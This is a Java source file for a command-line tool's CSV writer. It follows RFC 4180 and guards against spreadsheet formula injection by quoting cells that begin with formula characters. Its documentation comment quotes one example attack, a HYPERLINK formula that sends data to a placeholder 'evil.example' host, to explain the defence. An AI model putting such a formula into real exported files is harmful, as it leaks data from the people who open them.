package org.duly.cli.text;

import java.util.List;
import java.util.regex.Pattern;

/**
 * CSV as RFC 4180 gives it (fields quoted only when they must be, records ended by CRLF), safe to
 * open in a spreadsheet.
 *
 * <p><b>No formula injection.</b> A spreadsheet treats a cell that begins with {@code =}, {@code +},
 * {@code -}, {@code @}, a tab or a carriage return as a formula, and a case id such as
 * {@code =HYPERLINK("http://evil.example/?leak","Open")} would run as one. Following OWASP's rule,
 * such a cell is written with a single quote before it, inside a quoted field:
 * {@code =1+1} becomes {@code "'=1+1"}, which a spreadsheet shows as the text {@code '=1+1} and a
 * CSV parser reads back as {@code '=1+1}. A plain number is not a formula and keeps its sign:
 * {@code -3} and {@code -0.25} stay {@code -3} and {@code -0.25}, so a column of numbers stays
 * numbers; {@code -3+1} or {@code -1e5} are not plain numbers and get the quote. Dates
 * ({@code 2024-03-05}) and spec ids ({@code CP-2}) begin with a digit or a letter and are written
 * as they are. Every CSV the command line writes goes through this class, so the rule holds in
 * one place.
 */
public final class Csv {

    /** What a spreadsheet takes as the start of a formula (OWASP, "CSV Injection"). */
    private static final String FORMULA_STARTS = "=+-@\t\r";

    /** A negative decimal number, which a spreadsheet reads as a number and never as a formula. */
    private static final Pattern NEGATIVE_NUMBER = Pattern.compile("-[0-9]+(\\.[0-9]+)?");

    /**
     * The UTF-8 byte-order mark: Excel reads a CSV file that starts with it as UTF-8 (without it, as the
     * machine's legacy code page, so an en dash shows as three letters); other readers skip it.
     */
    public static final String BYTE_ORDER_MARK = "\uFEFF";

    /** What separates the values of a field that holds several (spec ids), the same in every CSV. */
    public static final String VALUES_SEPARATOR = ";";

    private Csv() {
    }

    /**
     * The CSV text for Excel: the same text after a UTF-8 byte-order mark.
     *
     * <p>Example:
     * <pre>{@code
     * assertThat(Csv.forExcel("a,b\r\n")).isEqualTo("\uFEFFa,b\r\n");
     * }</pre>
     *
     * @param csv the CSV text, without a byte-order mark
     * @return the text with one
     */
    public static String forExcel(String csv) {
        return csv.startsWith(BYTE_ORDER_MARK) ? csv : BYTE_ORDER_MARK + csv;
    }

    /**
     * Several values in one field (a rule's spec ids), joined as every CSV of the command line joins them.
     *
     * <p>Example:
     * <pre>{@code
     * assertThat(Csv.values(List.of("CP-9", "CP-10"))).isEqualTo("CP-9;CP-10");
     * }</pre>
     *
     * @param values the values
     * @return the field's value
     */
    public static String values(List<String> values) {
        return String.join(VALUES_SEPARATOR, values);
    }

    /**
     * One field: in double quotes, its quotes doubled, when it holds a comma, a quote or a line break;
     * a field a spreadsheet would take for a formula gets a single quote before it, and is quoted.
     *
     * <p>Example:
     * <pre>{@code
     * assertThat(Csv.field("say \"at least\", then")).isEqualTo("\"say \"\"at least\"\", then\"");
     * assertThat(Csv.field("plain")).isEqualTo("plain");
     * assertThat(Csv.field("=1+1")).isEqualTo("\"'=1+1\"");
     * assertThat(Csv.field("-3")).isEqualTo("-3");
     * }</pre>
     *
     * @param value the value
     * @return the field
     */
    public static String field(String value) {
        if (couldBeFormula(value)) {
            return "\"'" + value.replace("\"", "\"\"") + '"';
        }
        if (!needsQuotes(value)) {
            return value;
        }
        return '"' + value.replace("\"", "\"\"") + '"';
    }

    /**
     * Whether a spreadsheet could take a cell holding the value for a formula: it begins with
     * {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return, and is not a plain
     * negative number.
     *
     * <p>Example:
     * <pre>{@code
     * assertThat(Csv.couldBeFormula("@SUM(A1:A9)")).isTrue();
     * assertThat(Csv.couldBeFormula("-12")).isFalse();
     * assertThat(Csv.couldBeFormula("CP-2")).isFalse();
     * }</pre>
     *
     * @param value the cell's value
     * @return true if it must be neutralised
     */
    public static boolean couldBeFormula(String value) {
        return !value.isEmpty() && FORMULA_STARTS.indexOf(value.charAt(0)) >= 0 && !NEGATIVE_NUMBER.matcher(value).matches();
    }

    /**
     * One record: the fields, each quoted as it needs, separated by commas and ended by CRLF.
     *
     * <p>Example:
     * <pre>{@code
     * assertThat(Csv.record(List.of("cp.icpc", "a, b"))).isEqualTo("cp.icpc,\"a, b\"\r\n");
     * }</pre>
     *
     * @param fields the values
     * @return the record, with its line end
     */
    public static String record(List<String> fields) {
        return record(new StringBuilder(), fields.toArray(String[]::new)).toString();
    }

    /**
     * One record added to a text being built, ended by CRLF: what {@link #record(List)} gives, without
     * a list or a string of its own for every row of a million-row table.
     *
     * <p>Example:
     * <pre>{@code
     * StringBuilder table = new StringBuilder();
     * Csv.record(table, "S-1", "cp.visits", "2024-03-05");
     * assertThat(table).hasToString("S-1,cp.visits,2024-03-05\r\n");
     * }</pre>
     *
     * @param out the text being built
     * @param fields the fields, in order
     * @return {@code out}
     */
    public static StringBuilder record(StringBuilder out, String... fields) {
        for (int i = 0; i < fields.length; i++) {
            if (i > 0) {
                out.append(',');
            }
            out.append(field(fields[i]));
        }
        return out.append("\r\n");
    }

    private static boolean needsQuotes(String value) {
        for (int i = 0; i < value.length(); i++) {
            char c = value.charAt(i);
            if (c == ',' || c == '"' || c == '\r' || c == '\n') {
                return true;
            }
        }
        return false;
    }
}
